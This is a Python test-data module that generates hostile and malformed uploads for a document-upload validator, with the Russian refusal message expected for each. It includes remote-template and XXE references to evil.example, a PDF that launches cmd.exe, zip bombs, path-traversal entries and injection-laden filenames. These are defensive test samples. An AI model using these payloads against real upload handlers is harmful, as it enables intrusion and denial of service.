"""Files that may be chosen, by mistake or with bad intent, each with what becomes of it: made here, stored nowhere."""

import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from tests.corpus import packages
from tests.corpus.packages import docx, links, sheet, text, types, with_field, word, zipped

PDF_TYPE = "application/pdf"
DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
ODT_TYPE = "application/vnd.oasis.opendocument.text"

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
"""Harmless, and every antivirus answers to it (eicar.org)."""

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1016)
PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
LAUGHS = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>'
FETCHES = '<?xml version="1.0"?><!DOCTYPE l SYSTEM "http://evil.example/l.dtd"><l/>'


@dataclass(frozen=True)
class Chosen:
    """A file as it is chosen: its name, how its bytes are made, and a part of the sentence that refuses it."""

    name: str
    make: Callable[[], bytes]
    refused: str


def pdf(inside: bytes) -> bytes:
    """A PDF with one object more."""
    return PDF.replace(b"trailer\n", b"3 0 obj\n" + inside + b"\nendobj\ntrailer\n")


def pdf_packed(inside: bytes) -> bytes:
    """A PDF whose object lies in a packed stream."""
    packed = zlib.compress(b"3 0 " + inside)
    head = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
    return pdf(head + packed + b"\nendstream")


def png(width: int = 8, height: int = 8) -> bytes:
    """A PNG of one colour, whole where it is small."""
    head = struct.pack(">2L5B", width, height, 1, 0, 0, 0, 0)
    rows = zlib.compress(bytes(width // 8 + 1) * height) if width * height < 10_000 else zlib.compress(b"")
    chunks = ((b"IHDR", head), (b"IDAT", rows), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">L", len(each)) + kind + each + struct.pack(">L", zlib.crc32(kind + each)) for kind, each in chunks
    )


def jpeg(width: int = 8, height: int = 8) -> bytes:
    """The head of a JPEG, as far as its size."""
    application = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\0" + bytes(9)
    return b"\xff\xd8" + application + b"\xff\xc0" + struct.pack(">HB2H", 11, 8, height, width) + bytes(4) + b"\xff\xd9"


def old_office(stream: str) -> bytes:
    """A container of the old Office in which such a stream lies."""
    return OLE + stream.encode("utf-16-le") + bytes(512)


def with_chart(workbook: bytes) -> bytes:
    """A DOCX with a chart, as Word writes it, and this workbook behind it."""
    parts: dict[str, packages.Content] = {
        "word/charts/chart1.xml": "<chart/>",
        "word/charts/_rels/chart1.xml.rels": links(("package", "../embeddings/Sheet1.xlsx", False)),
        "word/embeddings/Sheet1.xlsx": workbook,
    }
    return docx(**parts)


TAKEN = {
    "PDF": (PDF, PDF_TYPE),
    "PDF with a packed object": (pdf_packed(b"<< /Type /Page >>"), PDF_TYPE),
    "PDF that speaks of JavaScript": (pdf(b"(Uroki /JavaScript i /Launch v 9 klasse)"), PDF_TYPE),
    "DOCX": (docx(), DOCX_TYPE),
    "DOCX with a chart": (with_chart(zipped(sheet())), DOCX_TYPE),
    "DOCX after the author's own template": (
        docx(**{"word/_rels/settings.xml.rels": links(("attachedTemplate", "file:///C:\\Шаблоны\\Бланк.dotx", True))}),
        DOCX_TYPE,
    ),
    "DOCX with an address in its text": (
        docx(**{"word/_rels/document.xml.rels": links(("hyperlink", "https://school.example", True))}),
        DOCX_TYPE,
    ),
    "XLSX": (zipped(sheet()), XLSX_TYPE),
    "ODT": (zipped(text(), zipfile.ZIP_STORED), ODT_TYPE),
    "JPEG": (jpeg(), "image/jpeg"),
    "PNG": (png(), "image/png"),
}

REFUSED = {
    "nothing": Chosen("пусто.pdf", lambda: b"", "файл пуст"),
    # Renamed and foreign
    "EICAR": Chosen("вирус.pdf", lambda: EICAR, "не документ"),
    "exe renamed": Chosen("план.pdf", lambda: b"MZ\x90\0" + bytes(100), "это программа"),
    "html renamed": Chosen("фото.jpg", lambda: b"\xef\xbb\xbf <!DOCTYPE html><script>1</script>", "веб-страница"),
    "svg renamed": Chosen("фото.jpg", lambda: b'<?xml version="1.0"?><svg onload="1"/>', "рисунок SVG"),
    "doc": Chosen("план.doc", lambda: old_office("WordDocument"), "старого Word"),
    "xls": Chosen("план.xlsx", lambda: old_office("Workbook"), "старого Excel"),
    "rtf": Chosen("план.docx", lambda: b"{\\rtf1 }", "RTF"),
    "rar": Chosen("всё.rar", lambda: b"Rar!\x1a\x07\x01\0", "архив RAR"),
    "7z": Chosen("всё.7z", lambda: b"7z\xbc\xaf\x27\x1c\0\4", "архив 7z"),
    "zip": Chosen("всё.zip", lambda: zipped({"план.pdf": PDF}), "архив ZIP"),
    "signature": Chosen(
        "план.pdf.sig", lambda: bytes.fromhex("3082010006092a864886f70d010702a0"), "электронная подпись"
    ),
    "HEIC": Chosen("IMG_1.jpg", lambda: b"\0\0\0\x18ftypheic" + bytes(20), "HEIC"),
    "presentation": Chosen(
        "план.docx",
        lambda: zipped(
            word()
            | {
                "[Content_Types].xml": types(
                    "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml", "/ppt/p.xml"
                )
            }
        ),
        "презентация",
    ),
    "table of OpenDocument": Chosen(
        "план.odt", lambda: zipped(text(mimetype="application/vnd.oasis.opendocument.spreadsheet")), "таблица ODS"
    ),
    "blanks": Chosen("план.pdf", lambda: b"   ", "PDF, DOCX"),
    # Macros, objects, what is loaded
    "docm renamed": Chosen(
        "план.docx",
        lambda: zipped(word() | {"[Content_Types].xml": types(packages.MACRO_MAIN, "/word/document.xml")}),
        "макросы",
    ),
    "macros unlisted": Chosen("план.docx", lambda: docx(**{"word/vbaProject.bin": OLE}), "макросы"),
    "macros of old Excel": Chosen(
        "план.xlsx", lambda: zipped(sheet() | {"xl/macrosheets/sheet1.xml": "<m/>"}), "макросы"
    ),
    "macros of ODT": Chosen("план.odt", lambda: zipped(text() | {"Basic/Standard/M.xml": "<m/>"}), "макросы"),
    "OLE object": Chosen("план.docx", lambda: docx(**{"word/embeddings/oleObject1.bin": OLE}), "объект другой"),
    "program inside": Chosen("план.docx", lambda: docx(**{"word/media/a.png": b"MZ\0\0"}), "объект другой"),
    "link to an object": Chosen(
        "план.docx",
        lambda: docx(**{"word/_rels/document.xml.rels": links(("oleObject", "http://evil.example/o", True))}),
        "объект из другого файла",
    ),
    "template from afar": Chosen(
        "план.docx",
        lambda: docx(
            **{"word/_rels/settings.xml.rels": links(("attachedTemplate", "https://evil.example/t.dotm", True))}
        ),
        "шаблон с другого компьютера",
    ),
    "template from a share": Chosen(
        "план.docx",
        lambda: docx(
            **{"word/_rels/settings.xml.rels": links(("attachedTemplate", "file://evil.example/t.dotm", True))}
        ),
        "шаблон с другого компьютера",
    ),
    "page brought in": Chosen(
        "план.docx",
        lambda: docx(**{"word/_rels/document.xml.rels": links(("aFChunk", "afchunk.mht", False))}),
        "из нескольких файлов",
    ),
    "macros behind a chart": Chosen(
        "план.docx", lambda: with_chart(zipped(sheet() | {"xl/vbaProject.bin": OLE})), "внутри диаграммы"
    ),
    # Zips
    "nested zip": Chosen("план.docx", lambda: docx(**{"word/media/a.png": zipped({"a": "b"})}), "вложены другие файлы"),
    "encrypted zip": Chosen("план.docx", lambda: with_field(docx(), 8, 1), "паролем"),
    "encrypted Office": Chosen("план.docx", lambda: old_office("EncryptedPackage"), "паролем"),
    "encrypted ODT": Chosen("план.odt", lambda: zipped(text("<manifest><encryption-data/></manifest>")), "паролем"),
    "bomb": Chosen("план.docx", lambda: packages.boastful(40), "в сотни раз больше"),
    "size declared": Chosen("план.docx", lambda: with_field(docx(), 24, 300 * 1024 * 1024, "<L"), "в сотни раз больше"),
    "crowd": Chosen("план.docx", lambda: packages.crowded(10_001), "больше 10000 частей"),
    "way up": Chosen("план.docx", lambda: docx(**{"../../etc/passwd": "x"}), "за пределы"),
    "way up of Windows": Chosen("план.docx", lambda: docx(**{"..\\..\\x.dll": "x"}), "за пределы"),
    "absolute": Chosen("план.docx", lambda: docx(**{"/etc/passwd": "x"}), "за пределы"),
    "drive": Chosen("план.docx", lambda: docx(**{"C:/x.dll": "x"}), "за пределы"),
    "symlink": Chosen("план.docx", packages.symlinked, "ссылка на другой файл"),
    "odd packing": Chosen("план.docx", lambda: with_field(docx(), 10, 12), "необычным способом"),
    "cut": Chosen("план.docx", lambda: docx()[:-30], "повреждён"),
    "zip behind a zip": Chosen("план.docx", lambda: docx() + docx(), "повреждён"),
    "no main part": Chosen(
        "план.docx",
        lambda: zipped({name: part for name, part in word().items() if "document" not in name}),
        "повреждён",
    ),
    # XML
    "billion laughs": Chosen("план.docx", lambda: docx(**{"word/styles.xml": LAUGHS}), "каких офисные программы"),
    "laughs in the list": Chosen(
        "план.docx", lambda: zipped(word() | {"[Content_Types].xml": LAUGHS}), "каких офисные программы"
    ),
    "XXE": Chosen("план.docx", lambda: docx(**{"word/settings.xml": FETCHES}), "каких офисные программы"),
    "XXE in UTF-16": Chosen(
        "план.docx", lambda: docx(**{"word/settings.xml": LAUGHS.encode("utf-16")}), "каких офисные программы"
    ),
    # PDF
    "JavaScript": Chosen("план.pdf", lambda: pdf(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"), "JavaScript"),
    "JavaScript written in figures": Chosen("план.pdf", lambda: pdf(b"<< /S/J#61vaScrip#74 >>"), "JavaScript"),
    "JavaScript packed": Chosen("план.pdf", lambda: pdf_packed(b"<< /S /JavaScript /JS 4 0 R >>"), "JavaScript"),
    "launch": Chosen("план.pdf", lambda: pdf(b"<< /S /Launch /F (cmd.exe) >>"), "запускает другие"),
    "attachment": Chosen("план.pdf", lambda: pdf(b"<< /Type /Filespec /EF << /F 9 0 R >> >>"), "вложены другие"),
    "encrypted PDF": Chosen("план.pdf", lambda: PDF.replace(b"/Root", b"/Encrypt 9 0 R /Root"), "паролем"),
    "PDF not at its beginning": Chosen("план.pdf", lambda: b"GARBAGE\n" + PDF, "перед началом PDF"),
    "zip behind a PDF": Chosen("план.pdf", lambda: PDF + zipped({"a.exe": "MZ"}), "приклеен архив"),
    # Pictures
    "huge PNG": Chosen("скан.png", lambda: png(50_000, 50_000), "50000 × 50000"),
    "huge JPEG": Chosen("скан.jpg", lambda: jpeg(50_000, 50_000), "50000 × 50000"),
    "zip behind a picture": Chosen("скан.jpg", lambda: jpeg() + zipped({"a": "b"}), "приклеен архив"),
    "cut picture": Chosen("скан.jpg", lambda: b"\xff\xd8\xff\xe0\x00\x10JFIF", "повреждён"),
}

NAMES = (
    "../../etc/passwd",
    "C:\\Документы\\x.docx",
    "CON.docx",
    "Программа" * 33 + ".pdf",
    'план "новый"; .pdf',
    "план\nSet-Cookie: a=b.pdf",
    "a.pdf.exe",
    "план\u202efdp.exe",
    ".htaccess",
    "план.pdf\0.exe",
    "<img src=x onerror=alert(1)>.pdf",
    "=HYPERLINK(1).pdf",
)
"""What files may be called; the bytes are those of a sound PDF."""
